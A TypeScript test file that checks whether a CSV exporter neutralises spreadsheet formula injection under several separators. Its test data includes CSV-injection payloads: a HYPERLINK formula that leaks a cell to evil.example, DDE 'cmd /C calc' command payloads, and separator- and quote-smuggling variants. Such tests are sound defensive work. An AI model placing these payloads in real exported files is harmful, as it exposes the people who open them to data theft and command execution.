import { describe, expect, it } from 'vitest';
import { asCsv, safeCell } from './csv.ts';

/** Cells as a forgiving spreadsheet reads them: quotes count where a cell begins, what follows them belongs to it. */
const cellsIn = (text: string, separator: string): string[] => {
  const cells: string[] = [];
  const ends = new Set([separator, '\r', '\n']);
  for (let at = 0; at < text.length; at++) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    }
    while (at < text.length && !ends.has(text[at]!)) cell += text[at++];
    cells.push(cell);
  }
  return cells;
};

const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell);

const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠x',
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '"=1+1',
  '""=1+1',
  'a;=1+1',
  'a;"=1+1',
  'a;""=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1;@x',
  'a","=1+1',
  'a";"=1+1',
  'a|=1+1',
  ';=1+1',
  ';;;+1+1',
  '=DDE("cmd";"/C calc";"!A0")',
];

describe('a cell', () => {
  it.each(attacks)('%j is no formula, whatever a spreadsheet separates by', (attack) => {
    const file = asCsv([
      ['key', 'title', 'by'],
      ['G-1', attack, 'ruth'],
      [attack, attack, attack],
    ]);
    for (const separator of [',', ';', '\t', '|'])
      expect(cellsIn(file, separator).filter(isFormula), JSON.stringify(separator)).toEqual([]);
  });

  it('would be one without that: the spreadsheet of this test takes formulas', () => {
    expect(cellsIn('"G-1","a;=1+1"\r\n', ';').filter(isFormula)).toEqual(['=1+1"']);
    expect(cellsIn('=1+1,b\r\n', ',').filter(isFormula)).toEqual(['=1+1']);
  });

  it.each([
    'Ledger',
    '',
    'a=b',
    '2026-03-03',
    '-8',
    '+3.5',
    '-0,25',
    'G-1',
    'one - two',
    'a; b',
    'x@y.example',
  ])('%j stays as it is', (text) => {
    expect(safeCell(text)).toBe(text);
    expect(cellsIn(asCsv([[text]]), ',')[0]).toBe(text);
  });
});
